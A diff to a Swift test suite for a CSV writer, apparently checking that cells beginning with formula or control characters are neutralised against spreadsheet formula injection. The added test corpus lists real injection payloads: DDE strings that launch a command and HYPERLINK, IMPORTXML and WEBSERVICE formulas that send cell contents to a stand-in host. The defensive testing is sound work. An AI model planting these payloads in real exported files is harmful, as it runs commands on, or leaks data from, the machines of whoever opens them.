@@ -30,8 +30,31 @@ struct CSVWriterTests {
         #expect(written([cell]) == "\(cell)\r\n")
     }
 
-    @Test func `a carriage return in front is made harmless too`() {
+    @Test func `control characters in front are made harmless too`() {
         #expect(written(["\r=1"]) == "\"'\r=1\"\r\n")
+        #expect(written(["\n=1"]) == "\"'\n=1\"\r\n")
+        #expect(written(["\u{0}=1"]) == "'\u{0}=1\r\n")
+    }
+
+    /// Attacks that have been seen in the wild, by what they begin with.
+    private static let attacks = [
+        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example?\"&A1,\"报错\")", "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")",
+        "=WEBSERVICE(\"http://x.example\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1+1|x",
+        "+1e", "+", "-", "--1", "+-1", "=", "@", "\t=1", "\u{0}", "\r", "\n", "=王小明", "+86 138 1234 5678", "-王",
+    ]
+
+    @Test func `of a corpus of attacks none begins a cell, wherever the cell stands`() throws {
+        for attack in Self.attacks {
+            for cells in [[attack], ["a", attack], [attack, attack], ["", attack, ""]] {
+                let text = written(cells)
+                let read = Reading(Array("h1,h2,h3\r\n".utf8) + Array(text.utf8)).rows.first ?? []
+                for (cell, original) in zip(read, cells) where original == attack {
+                    #expect(cell.first == "'" || !"=+-@\t\r\n\u{0}".contains(cell.first ?? "a"), "\(attack.debugDescription)")
+                }
+                #expect(text.contains("'"), "\(attack.debugDescription)")
+            }
+        }
+        for number in ["-12.50", "+3", "0", "-0.5", "1e5"] { #expect(!written([number]).contains("'")) }
     }
 
     @Test func `the report of findings opens in a spreadsheet and holds everything that was said`() {
